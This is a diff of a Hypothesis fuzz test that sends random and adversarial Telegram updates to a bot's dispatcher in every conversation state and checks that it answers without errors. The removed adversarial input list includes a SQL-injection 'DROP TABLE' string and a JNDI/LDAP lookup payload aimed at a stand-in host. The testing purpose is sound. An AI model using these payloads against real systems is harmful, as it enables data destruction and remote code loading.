@@ -1,18 +1,23 @@
-"""Hypothesis throws what people (and forgers) send at the real dispatcher, at every state.
+"""Hypothesis throws what people (and forgers) send (tests/reliability/inputs.py) at the real
+dispatcher, at every state a conversation can be in.
 
 For each state of `states.record_snapshots` a new citizen is put in that situation, then 1-4
-generated updates arrive: random and adversarial text in any script, up to Telegram's 4,096
-characters, commands, forged and stale button payloads, stickers, photos, voice, documents, their
-own and other people's contacts, edited messages, and the same things in a group. After each:
+generated updates arrive, in the private chat, some other group or the staff chat (with an admin
+and a staff chat configured, as in production). After each update:
 
-- no handler raised (the update log says `handled` or `unhandled`, never `error`);
-- it was answered: a private message or edit gets a message, a button press is answered so the
-  client stops spinning, a group message gets the "private chat only" reply (an edit in a group
-  is deliberately ignored);
-- the conversation is in a known state and what is stored still reads as a profile;
+- no handler raised: the update log says `handled` or `unhandled`, never `error`, and nothing
+  was logged at ERROR (the error handler logs every failure it answers);
+- it was answered: a private message or edit of any kind gets a message in that chat, a button
+  press, forged or stale, in any chat, exactly one answerCallbackQuery (the spinner stops), a
+  message in some other group one pointer to the private chat; edits in groups and non-command
+  chatter in the staff chat from someone who is not staff are deliberately ignored (nothing sent);
+- nothing sent breaks Telegram's limits: text of 1-4,096 characters, a callback answer of at
+  most 200, button data of at most 64 bytes;
+- the conversation is in a known citizen state; at the end, what is stored still reads as a
+  profile;
 - nobody else's application changed.
 
-CI runs a few examples per state (JUMYS_FUZZ_EXAMPLES, default 12); bench/fuzz.py runs many.
+CI runs a few examples per state (JUMYS_FUZZ_EXAMPLES, default 8); bench/fuzz.py runs many.
 """
 
 from __future__ import annotations
@@ -21,21 +26,19 @@ import asyncio
 import itertools
 import logging
 import os
+import tempfile
 from collections.abc import Iterator
-from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import pytest
 from aiogram.fsm.state import StatesGroup
 from aiogram.fsm.storage.base import StorageKey
-from aiogram.types import Update
+from aiogram.types import InlineKeyboardMarkup, Update
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from bot.chat import callbacks
 from bot.chat.steps import Account, Applying, Ask, Flow
-from bot.offline_session import OfflineSession
+from bot.offline_session import OfflineSession, SentRequest
 from bot.outgoing import SendSchedule
 from bot.ratelimit import Rate
 from bot.rules.profile_json import profile_from_json
@@ -44,9 +47,12 @@ from bot.stack import production_bot, production_dispatcher
 from bot.storage.database import Database
 from bot.updates import UpdateFactory
 
+from .inputs import OTHERS, STAFF_CHAT, Action, actions, chat_of, update_for
 from .states import TODAY, Snapshot, record_snapshots
 
-EXAMPLES = int(os.environ.get("JUMYS_FUZZ_EXAMPLES", "12"))
+EXAMPLES = int(os.environ.get("JUMYS_FUZZ_EXAMPLES", "8"))
+ADMIN = 7
+SETTINGS = Settings(_env_file=None, admins=frozenset({ADMIN}), staff_chat=STAFF_CHAT)
 # The limits are tested on their own (tests/operations); here they would only make us wait.
 NEVER_THROTTLE = Rate(1e9, 1_000_000)
 UNLIMITED = SendSchedule(
@@ -58,195 +64,54 @@ KNOWN_STATES = {
     for state in group.__all_states__
     if isinstance(group, type) and issubclass(group, StatesGroup)
 }
-OTHERS = 600_000_001  # a citizen whose application nobody else may touch
-
-any_char = st.characters(codec="utf-8")  # Telegram sends valid UTF-8 only
-ADVERSARIAL = [
-    "",
-    " ",
-    "\n\n\n",
-    "\x00",
-    "870510300012",
-    "870510300013",
-    "000000000000",
-    "9999999999999",
-    "31.02.2000",
-    "00.00.0000",
-    "07.03.1972",
-    "1.1.1900",
-    "06.2024",
-    "+7 (701) 234-56-78",
-    "8 800 000 00 00",
-    "+1 202 555 0100",
-    "' OR 1=1; DROP TABLE applications; --",
-    "<b>bold</b> <a href='tg://user?id=1'>x</a>",
-    "*bold* _it_ `code` [link](http://x)",
-    "{number} {programme} {} %s %(x)s",
-    "${jndi:ldap://example.org/a}",
-    "\u202eRTL override",
-    "a\u200db\u200c\u2060c",
-    "🙂👨‍👩‍👧‍👦🇰🇿",
-    "Қазақстан Республикасы ӘҒҚҢӨҰҮҺІ",
-    "Назад",
-    "⬅️ Назад",
-    "Артқа",
-]
-COMMANDS = [
-    "/start",
-    "/start ref123",
-    "/START",
-    "/start@jumys_bot",
-    "/my",
-    "/help",
-    "/cancel",
-    "/language",
-    "/privacy",
-    "/forget",
-    "/unknown",
-    "/",
-    "//start",
-    "/my@another_bot",
-]
-PROGRAMMES = ["kumis_jas", "jastar_praktikasy", "first_job", "business_grant", "moon_base", ""]
-safe = st.text(alphabet=st.characters(blacklist_characters=":", codec="utf-8"), max_size=12)
+MESSAGES = ("sendMessage", "editMessageText")
 
 
-@dataclass(frozen=True)
-class Action:
-    kind: str
-    value: str = ""
-    group: bool = False
-
-
-texts = st.one_of(
-    st.text(alphabet=any_char, max_size=200),
-    st.sampled_from(ADVERSARIAL),
-    # Long messages up to Telegram's 4,096 characters, cheaply: a piece repeated.
-    st.builds(
-        lambda piece, n: (piece * n)[:4096],
-        st.text(any_char, min_size=1, max_size=8),
-        st.integers(500, 4096),
-    ),
-)
-payloads = st.one_of(
-    st.builds(
-        lambda s, v: callbacks.Answer(step=s, value=v).pack(),
-        st.sampled_from(
-            [
-                "iin",
-                "sex",
-                "region",
-                "employment",
-                "education",
-                "experience",
-                "groups",
-                "summary",
-                "moon",
-            ]
-        ),
-        safe,
-    ),
-    st.builds(
-        lambda a, p: callbacks.Nav(action=a, page=p).pack(),
-        st.sampled_from(["back", "page", "no_iin", "groups_none", "groups_done", "x"]),
-        st.integers(-5, 50),
-    ),
-    st.builds(
-        lambda s: callbacks.ChangeAnswer(step=s).pack(),
-        st.sampled_from(["iin", "region", "summary", "groups", "nothing"]),
-    ),
-    st.just(callbacks.ShowResults().pack()),
-    st.builds(lambda p: callbacks.ApplyFor(programme=p).pack(), st.sampled_from(PROGRAMMES)),
-    st.builds(
-        lambda a, p: callbacks.ApplyNav(action=a, programme=p).pack(),
-        st.sampled_from(["skip", "back", "submit", "x"]),
-        st.sampled_from(PROGRAMMES),
-    ),
-    st.builds(
-        lambda a, i: callbacks.MyApplication(action=a, app_id=i).pack(),
-        st.sampled_from(["withdraw", "keep", "withdraw_yes", "answer", "x"]),
-        st.integers(-1, 40) | st.just(2**62),
-    ),
-    st.builds(lambda a: callbacks.Menu(action=a).pack(), st.sampled_from(["my", "x"])),
-    st.builds(lambda c: callbacks.ForgetChoice(confirm=c).pack(), st.booleans()),
-    st.builds(
-        lambda c: callbacks.LanguageChoice(code=c).pack(), st.sampled_from(["kk", "ru", "en"])
-    ),
-    st.builds(lambda a: callbacks.ConsentChoice(agree=a).pack(), st.booleans()),
-    st.text(alphabet=any_char, max_size=64),
-)
-actions = st.one_of(
-    st.builds(Action, st.just("text"), texts),
-    st.builds(Action, st.just("text"), st.sampled_from(COMMANDS)),
-    st.builds(Action, st.just("button"), payloads),
-    st.builds(Action, st.just("own contact"), st.sampled_from(ADVERSARIAL[8:16])),
-    st.builds(Action, st.just("someone's contact"), st.just("+77017654321")),
-    st.builds(Action, st.sampled_from(["sticker", "photo", "voice", "document"])),
-    st.builds(Action, st.just("edited"), texts),
-    st.builds(Action, st.sampled_from(["text", "button", "edited"]), texts, st.just(True)),
-)
-
-
-def update_for(action: Action, private: UpdateFactory, group: UpdateFactory) -> Update:
-    talk = group if action.group else private
-    if action.kind == "text":
-        return talk.text(action.value)
-    if action.kind == "button":
-        return talk.callback(action.value[:64] if action.group else action.value)
-    if action.kind == "own contact":
-        return talk.contact(action.value)
-    if action.kind == "someone's contact":
-        return talk.contact(action.value, owner_id=OTHERS)
-    if action.kind == "edited":
-        return talk.edited(action.value)
-    return getattr(talk, action.kind)()  # type: ignore[no-any-return]
-
-
-class Outcomes(logging.Handler):
-    """The update log's `outcome` of each update, by update id."""
+class UpdateLogOutcomes(logging.Handler):
+    """The update log's `outcome` of each update, by update id; and every ERROR logged."""
 
     def __init__(self) -> None:
         super().__init__()
         self.seen: dict[int, str] = {}
+        self.errors: list[str] = []
 
     def emit(self, record: logging.LogRecord) -> None:
-        self.seen[int(getattr(record, "update_id", 0) or 0)] = str(getattr(record, "outcome", ""))
+        if record.levelno >= logging.ERROR:
+            self.errors.append(record.getMessage())
+        if record.name == "jumys.updates":
+            self.seen[int(getattr(record, "update_id", 0) or 0)] = str(
+                getattr(record, "outcome", "")
+            )
 
 
 class Harness:
-    def __init__(self, db: Database, session: OfflineSession, snapshots: list[Snapshot]) -> None:
+    def __init__(self, db: Database, snapshots: list[Snapshot]) -> None:
         self.db = db
-        self.session = session
-        settings_ = Settings(_env_file=None)
-        self.bot = production_bot(settings_, session, schedule=UNLIMITED)
+        self.session = OfflineSession()
+        self.bot = production_bot(SETTINGS, self.session, schedule=UNLIMITED)
         self.dp = production_dispatcher(
-            db, settings_, flood_rate=NEVER_THROTTLE, clock=lambda: TODAY
+            db, SETTINGS, flood_rate=NEVER_THROTTLE, clock=lambda: TODAY
         )
         self.snapshots = {s.name: s for s in snapshots}
         self.user_ids: Iterator[int] = itertools.count(800_000_001)
-        self.outcomes = Outcomes()
+        self.log = UpdateLogOutcomes()
         self.update_log = logging.getLogger("jumys.updates")
         self.level = self.update_log.level
         self.update_log.setLevel(logging.INFO)
-        self.update_log.addHandler(self.outcomes)
+        logging.getLogger().addHandler(self.log)
+        self.update_log.addHandler(self.log)
 
     @classmethod
     async def open(cls, folder: Path) -> Harness:
         db = await Database.open(folder / "fuzz.sqlite3")
-        session = OfflineSession()
-        settings_ = Settings(_env_file=None)
-        recorder = production_dispatcher(
-            db, settings_, flood_rate=NEVER_THROTTLE, clock=lambda: TODAY
-        )
-        recording_bot = production_bot(settings_, session, schedule=UNLIMITED)
-        snapshots = await record_snapshots(recorder, recording_bot, db)
         await db.applications.submit(
             OTHERS, "kumis_jas", "almaty_city", {}, {}, "+77017654321", None, "ru"
         )
-        return cls(db, session, snapshots)
+        return cls(db, snapshots())
 
     async def close(self) -> None:
-        self.update_log.removeHandler(self.outcomes)
+        logging.getLogger().removeHandler(self.log)
+        self.update_log.removeHandler(self.log)
         self.update_log.setLevel(self.level)
         await self.db.close()
 
@@ -257,23 +122,23 @@ class Harness:
         user_id = next(self.user_ids)
         await self.snapshots[where].place(self.dp, self.bot, self.db, user_id)
         before = await self.others()
-        private = UpdateFactory(
+        talk = UpdateFactory(
             user_id=user_id, language_code="ru", _update_ids=itertools.count(user_id * 10)
         )
-        group = UpdateFactory(
-            user_id=user_id, chat_type="group", _update_ids=itertools.count(user_id * 10 + 5)
-        )
+        key = StorageKey(bot_id=self.bot.id, chat_id=user_id, user_id=user_id)
         for action in steps:
-            update = update_for(action, private, group)
+            update = update_for(action, talk)
             sent_before = len(self.session.requests)
+            errors_before = len(self.log.errors)
             await self.dp.feed_update(self.bot, update)
             replies = self.session.requests[sent_before:]
-            outcome = self.outcomes.seen.get(update.update_id)
+            outcome = self.log.seen.get(update.update_id)
             assert outcome in ("handled", "unhandled"), f"{action}: outcome {outcome}"
-            assert answered(update, replies, action), f"{action} got no answer: {replies}"
-        key = StorageKey(bot_id=self.bot.id, chat_id=user_id, user_id=user_id)
-        state = await self.dp.storage.get_state(key)
-        assert state is None or state in KNOWN_STATES, state
+            assert self.log.errors[errors_before:] == [], action
+            within_limits(replies)
+            answered(update, replies, action, user_id)
+            state = await self.dp.storage.get_state(key)
+            assert state is None or state in KNOWN_STATES, f"{action}: state {state}"
         profile_from_json((await self.dp.storage.get_data(key)).get("profile") or {})
         user = await self.db.users.get(user_id)
         if user is not None:
@@ -282,40 +147,66 @@ class Harness:
         self.session.clear()
 
 
-def answered(update: Update, replies: list[Any], action: Action) -> bool:
+def within_limits(replies: list[SentRequest]) -> None:
+    """Telegram's limits: 4,096 characters of text, 200 of a callback answer, 64 bytes of data."""
+    for reply in replies:
+        if reply.method in MESSAGES:
+            assert 0 < len(reply.text) <= 4096, (reply.method, len(reply.text))
+        if reply.method == "answerCallbackQuery":
+            assert len(reply.text) <= 200, reply.text
+        markup = getattr(reply.call, "reply_markup", None)
+        if isinstance(markup, InlineKeyboardMarkup):
+            for row in markup.inline_keyboard:
+                for button in row:
+                    data = button.callback_data or ""
+                    assert len(data.encode()) <= 64, data
+
+
+def answered(update: Update, replies: list[SentRequest], action: Action, user_id: int) -> None:
+    methods = [r.method for r in replies]
     if update.callback_query is not None:
         query_id = update.callback_query.id
-        return any(
-            r.method == "answerCallbackQuery" and r.params.get("callback_query_id") == query_id
+        answers = [
+            r
             for r in replies
-        )
-    message = update.message or update.edited_message
-    assert message is not None
-    if action.group and update.edited_message is not None:
-        return True  # an edit in a group is deliberately ignored
-    chat_id = message.chat.id
-    return any(
-        r.method in ("sendMessage", "editMessageText") and r.params.get("chat_id") == chat_id
-        for r in replies
-    )
+            if r.method == "answerCallbackQuery" and r.params.get("callback_query_id") == query_id
+        ]
+        assert len(answers) == 1, f"{action}: {methods}"
+        return
+    chat_id = chat_of(action, user_id)
+    messages = [r for r in replies if r.method in MESSAGES and r.params.get("chat_id") == chat_id]
+    if action.where != "private" and action.kind == "edited":
+        assert replies == [], f"{action}: edits in groups are ignored, got {methods}"
+    elif action.where == "staff_chat" and not action.value.startswith("/"):
+        assert replies == [], f"{action}: chatter in the staff chat is not answered, got {methods}"
+    elif action.where == "staff_chat":
+        pass  # a command there: a staff command is refused, others may be answered or not
+    else:
+        assert messages, f"{action} got no answer in chat {chat_id}: {methods}"
 
 
-_SNAPSHOT_NAMES: list[str] = []
+_SNAPSHOTS: list[Snapshot] = []
 
 
-def snapshot_names() -> list[str]:
-    """The states to fuzz, known before the tests run (recorded once, in their own loop)."""
-    if not _SNAPSHOT_NAMES:
-        import tempfile
+def snapshots() -> list[Snapshot]:
+    """Every state, recorded once by real walks (in their own loop and database) and then only
+    placed: a fuzz example starts anywhere in a few writes."""
+    if not _SNAPSHOTS:
 
-        async def names() -> list[str]:
+        async def record() -> list[Snapshot]:
             with tempfile.TemporaryDirectory() as folder:
-                harness = await Harness.open(Path(folder))
-                await harness.close()
-                return list(harness.snapshots)
+                db = await Database.open(Path(folder) / "walks.sqlite3")
+                try:
+                    dp = production_dispatcher(
+                        db, SETTINGS, flood_rate=NEVER_THROTTLE, clock=lambda: TODAY
+                    )
+                    bot = production_bot(SETTINGS, OfflineSession(), schedule=UNLIMITED)
+                    return await record_snapshots(dp, bot, db)
+                finally:
+                    await db.close()
 
-        _SNAPSHOT_NAMES.extend(asyncio.run(names()))
-    return _SNAPSHOT_NAMES
+        _SNAPSHOTS.extend(asyncio.run(record()))
+    return _SNAPSHOTS
 
 
 STATES = [
@@ -344,7 +235,7 @@ STATES = [
 
 
 def test_every_state_is_reached_by_the_recorded_walks() -> None:
-    assert sorted(snapshot_names()) == sorted(STATES)
+    assert sorted(s.name for s in snapshots()) == sorted(STATES)
 
 
 @pytest.mark.parametrize("where", STATES)
@@ -356,7 +247,7 @@ def test_whatever_arrives_is_answered_and_breaks_nothing(tmp_path: Path, where: 
             @settings(
                 max_examples=EXAMPLES,
                 deadline=None,
-                suppress_health_check=[HealthCheck.too_slow],
+                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
                 database=None,
             )
             @given(st.lists(actions, min_size=1, max_size=4))
